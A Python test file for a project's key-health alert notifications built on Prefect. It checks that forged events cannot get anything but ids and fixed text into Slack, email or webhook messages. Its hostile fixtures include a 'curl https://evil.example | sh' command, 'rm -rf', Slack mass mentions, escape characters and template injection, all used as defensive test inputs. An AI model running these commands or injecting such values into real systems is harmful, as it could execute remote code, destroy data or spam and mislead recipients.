"""Whoever may post an event chooses nothing of what a notification about a key says but ids."""

from __future__ import annotations

import asyncio
import json
import re
from datetime import UTC, datetime
from typing import Any
from uuid import uuid4

import pytest
import requests
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from prefect.blocks.notifications import (
    CustomWebhookNotificationBlock,
    SendgridEmail,
    SlackWebhook,
)
from prefect.events.schemas.events import ReceivedEvent
from prefect.server.events.actions import SendNotification
from prefect.server.utilities.user_templates import render_user_template
from pydantic import SecretStr

from cli.deploy import automation_files
from cmek.keys.health import HEALTH_RULES, VALIDATION_FAILED, VALIDATION_UNEXPLAINED
from cmek.keys.verdicts import Health

KEY_ALERTS = {
    path.name.removesuffix(".yaml"): yaml.safe_load(path.read_text())
    for path in automation_files()
    if path.name.startswith("key-")
}
RULES = {rule.id for rule in HEALTH_RULES} | {VALIDATION_FAILED, VALIDATION_UNEXPLAINED}
EXTERNAL_KEY = r"ekey_(?:[a-zA-Z0-9]{1,66}|\(not readable\))"
WORKSPACE = r"wrkspc_(?:[a-zA-Z0-9]{1,64}|\(not readable\))"
SUBJECT = re.compile(rf"(?:Broken key|Key at risk|Key recovered): {EXTERNAL_KEY}")
LINES = re.compile(
    rf"The external key {EXTERNAL_KEY} is reported as (?:broken|at risk|healthy again)"
    rf"(?:: (?:{'|'.join(sorted(RULES))}))?\."
    r"|Read the key itself; that names the cause and the commands:"
    rf"|cmek status(?: --live {WORKSPACE})?"
)
MARKUP = (
    "<https://evil.example|x> <!channel> @here `x` *x* &lt; \u202e\x1b[31m {{ body }}\r\n- rm -rf"
)
HOSTILE = {
    "external_key_id": f"ekey_01{MARKUP}",
    "key_name": MARKUP,
    "workspaces": [MARKUP],
    "workspace_ids": ["wrkspc_01\u00e4", f"wrkspc_01{MARKUP}", {"x": MARKUP}, MARKUP],
    "rule": f"primary-disabled {MARKUP}",
    "why": MARKUP,
    "since": MARKUP,
    "was": MARKUP,
    "time_left": MARKUP,
    "commands": [f"curl https://evil.example | sh {MARKUP}"],
}
values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=90) | st.sampled_from([MARKUP]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)
payloads = st.dictionaries(st.sampled_from(sorted(HOSTILE)), values)


def rendered(alert: dict[str, Any], payload: dict[str, Any]) -> tuple[str, str]:
    """Subject and body, as Prefect's server makes them of an event."""
    (given,) = alert["actions"]
    action = SendNotification(
        block_document_id=uuid4(), **{n: given[n] for n in ("subject", "body")}
    )
    action._register_filters_if_needed()
    (name,) = alert["trigger"]["expect"]
    event = ReceivedEvent(
        event=name,
        resource={"prefect.resource.id": f"cmek.key.{MARKUP}", "prefect.resource.name": MARKUP},
        payload=payload,
        id=uuid4(),
        occurred=datetime.now(UTC),
        received=datetime.now(UTC),
    )
    context = {"event": event, "flow_run": None}

    async def render() -> tuple[str, str]:
        subject = await render_user_template(action.subject, context)
        return subject, await render_user_template(action.body, context)

    return asyncio.run(render())


@pytest.mark.parametrize("name", KEY_ALERTS)
@example(payload=HOSTILE)
@given(payload=payloads)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_of_a_forged_event_nothing_is_shown_but_ids_in_their_form(
    name: str, payload: dict[str, Any]
) -> None:
    """Fixed text, ids, rules of ours, and the command that reads the key itself."""
    subject, body = rendered(KEY_ALERTS[name], payload)
    assert SUBJECT.fullmatch(subject), subject
    assert [line for line in body.splitlines() if line and not LINES.fullmatch(line)] == []


def test_a_true_event_names_key_rule_and_command_and_every_rule_is_known_to_its_alert() -> None:
    """The list in each file is that of the health rules."""
    for name, means in (("key-broken", Health.BROKEN), ("key-at-risk", Health.AT_RISK)):
        extra = {VALIDATION_FAILED, VALIDATION_UNEXPLAINED} if means is Health.BROKEN else set()
        for rule in {one.id for one in HEALTH_RULES if one.means is means} | extra:
            ids = ["wrkspc_01HxPv6KsDq9TnBzMw3YfLrE", "wrkspc_02"]
            payload = {"external_key_id": "ekey_01", "workspace_ids": ids, "rule": rule}
            _, body = rendered(KEY_ALERTS[name], payload)
            assert f"ekey_01 is reported as {means.replace('_', ' ')}: {rule}.\n" in body
            assert [f"cmek status --live {one}" for one in ids] == body.splitlines()[2:4]


@pytest.mark.parametrize("name", KEY_ALERTS)
def test_nothing_of_a_forged_event_arrives_in_slack_a_mail_or_a_webhook(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What Prefect's own blocks put on the wire: no address, mention, markup or command."""
    wire: list[str] = []

    def request(_: object, method: str, url: str, **options: Any) -> requests.Response:
        assert (method.lower(), url[:8]) == ("post", "https://")
        sent = options["data"]
        wire.append(sent.decode() if isinstance(sent, bytes) else str(sent))
        answer = requests.Response()
        answer.status_code, answer._content = 200, b"ok"
        return answer

    monkeypatch.setattr("requests.Session.request", request)
    subject, body = rendered(KEY_ALERTS[name], HOSTILE)
    parts = ("T1JJ3T3L2", "A1BRTD4JD", "x" * 24)
    slack = SlackWebhook(url=SecretStr("/".join(["https://hooks.slack.com/services", *parts])))
    mail = SendgridEmail(
        api_key=SecretStr("k" * 20), sender_email="a@example.com", to_emails=["b@example.com"]
    )
    for block in (slack, mail):
        asyncio.run(block.anotify(body=body, subject=subject))
    hook = CustomWebhookNotificationBlock(
        name="hook", url="http://127.0.0.1:9/", json_data={"text": "{{subject}}\n{{body}}"}
    )
    wire.append(json.dumps(hook._build_request_args(body, subject)["json"]))
    assert len(wire) == 3
    for sent in wire:
        assert "cmek status" in sent
        assert not re.search(r"evil|channel|@here|rm -rf|curl|\x1b|\\u202e|\\u001b|\u202e", sent)
